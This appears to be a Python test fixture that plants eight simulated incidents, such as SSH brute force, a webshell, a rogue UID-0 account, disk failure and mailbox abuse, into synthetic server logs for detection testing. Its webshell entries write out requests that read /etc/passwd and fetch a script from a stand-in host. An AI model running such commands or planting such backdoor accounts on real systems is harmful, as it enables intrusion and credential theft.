"""Eight real incidents of different kinds, to be put into an ordinary week."""

from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from types import MappingProxyType
from typing import Final

from support.traffic.lines import Line, access, auth, every, syslog
from support.traffic.mail import postfix
from support.traffic.web import BROWSER

BURGLAR: Final = "203.0.113.77"
SECOND: Final = timedelta(seconds=1)


def guessed_password(at: datetime) -> Iterator[Line]:
    """Somebody guesses twenty times, is let in, and looks around."""
    for moment in every(at, 4 * SECOND, 20):
        yield auth(moment, "sshd[9001]", f"Failed password for eli from {BURGLAR} port 41000 ssh2")
    at += timedelta(minutes=2)
    yield auth(at, "sshd[9002]", f"Accepted password for eli from {BURGLAR} port 41500 ssh2")
    yield auth(at, "sshd[9002]", "pam_unix(sshd:session): session opened for user eli(uid=1005) by (uid=0)")


def account_of_root(at: datetime) -> Iterator[Line]:
    """An account with the number of root appears, and gets a password."""
    yield auth(at, "useradd[9101]", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1")
    yield auth(at + 3 * SECOND, "passwd[9102]", "pam_unix(passwd:chauthtok): password changed for toor")


def web_server_takes_root(at: datetime) -> Iterator[Line]:
    """The web server's account uses sudo."""
    where = "TTY=unknown ; PWD=/var/www/html ; USER=root"
    yield auth(at, "sudo", f"www-data : {where} ; COMMAND=/bin/bash -i")
    yield auth(at, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)")


def webshell(at: datetime) -> Iterator[Line]:
    """A program was left in the folder for uploads, and obeys."""
    yield access(at, BURGLAR, "POST /upload.php HTTP/1.1", 200, agent=BROWSER)
    for number, command in enumerate(("id", "uname+-a", "cat+/etc/passwd", "wget+http://203.0.113.9/x.sh")):
        request = f"GET /uploads/avatar.php?cmd={command} HTTP/1.1"
        yield access(at + (5 + 7 * number) * SECOND, BURGLAR, request, 200, 812, agent=BROWSER)


def outage(at: datetime) -> Iterator[Line]:
    """The shop answers everybody with errors, for ten minutes."""
    for number, moment in enumerate(every(at, 2 * SECOND, 300)):
        yield access(moment, f"198.51.100.{30 + number % 200}", "GET /shop HTTP/2.0", 500, 170, agent=BROWSER)


def dying_disk(at: datetime) -> Iterator[Line]:
    """Blocks cannot be read any more, and the file system gives up writing."""
    for number, moment in enumerate(every(at, 3 * SECOND, 12)):
        sector = 2_097_152 + 8 * number
        trouble = f"I/O error, dev sda, sector {sector} op 0x0:(READ) flags 0x80700 phys_seg 1 prio class 2"
        yield syslog(moment, "syslog", "kernel", f"[901234.{number:06}] {trouble}")
    end = at + timedelta(minutes=1)
    yield syslog(
        end,
        "syslog",
        "kernel",
        "[901300.000001] EXT4-fs error (device sda1): ext4_journal_check_start:83: comm postgres: "
        "Detected aborted journal",
    )
    yield syslog(end, "syslog", "kernel", "[901300.000002] EXT4-fs (sda1): Remounting filesystem read-only")


def no_memory(at: datetime) -> Iterator[Line]:
    """The shop takes all memory, is ended, and starts again, until nobody starts it any more."""
    for number, moment in enumerate(every(at, timedelta(minutes=2), 5)):
        killed = (
            f"Out of memory: Killed process {8000 + number} (java) total-vm:9123456kB, anon-rss:3123456kB, "
            "file-rss:0kB, shmem-rss:0kB, UID:998 pgtables:7000kB oom_score_adj:0"
        )
        yield syslog(moment, "syslog", "kernel", f"[912000.{number:06}] {killed}")
        yield syslog(
            moment + SECOND,
            "syslog",
            "systemd[1]",
            "shop.service: A process of this unit has been killed by the OOM killer.",
        )
        yield syslog(
            moment + SECOND, "syslog", "systemd[1]", "shop.service: Main process exited, code=killed, status=9/KILL"
        )
        yield syslog(moment + SECOND, "syslog", "systemd[1]", "shop.service: Failed with result 'oom-kill'.")
        yield syslog(
            moment + 3 * SECOND,
            "syslog",
            "systemd[1]",
            f"shop.service: Scheduled restart job, restart counter is at {number + 1}.",
        )


def stolen_mailbox(at: datetime) -> Iterator[Line]:
    """Somebody guesses dee's password for mail, and sends spam in dee's name."""
    for moment in every(at, 5 * SECOND, 25):
        yield postfix(
            moment,
            "smtpd",
            f"warning: unknown[{BURGLAR}]: SASL LOGIN authentication failed: "
            f"UGFzc3dvcmQ6, sasl_username=dee@shop.example",
        )
    at += timedelta(minutes=4)
    for number, moment in enumerate(every(at, 2 * SECOND, 150)):
        yield postfix(
            moment,
            "smtpd",
            f"{0xAB000000 + number:X}: client=unknown[{BURGLAR}], sasl_method=LOGIN, sasl_username=dee@shop.example",
        )
        yield postfix(
            moment, "qmgr", f"{0xAB000000 + number:X}: from=<dee@shop.example>, size=2310, nrcpt=30 (queue active)"
        )


Planted = Callable[[datetime], Iterator[Line]]
#: What is planted, by name: when in the week it begins, and what then stands in the logs.
PLANTED: Final = MappingProxyType(
    {
        "guessed password": (timedelta(days=0, hours=3), guessed_password),
        "account of root": (timedelta(days=1, hours=23), account_of_root),
        "web server takes root": (timedelta(days=2, hours=2), web_server_takes_root),
        "webshell": (timedelta(days=2, hours=21), webshell),
        "outage": (timedelta(days=3, hours=19), outage),
        "dying disk": (timedelta(days=4, hours=4), dying_disk),
        "no memory": (timedelta(days=5, hours=13), no_memory),
        "stolen mailbox": (timedelta(days=6, hours=22), stolen_mailbox),
    }
)
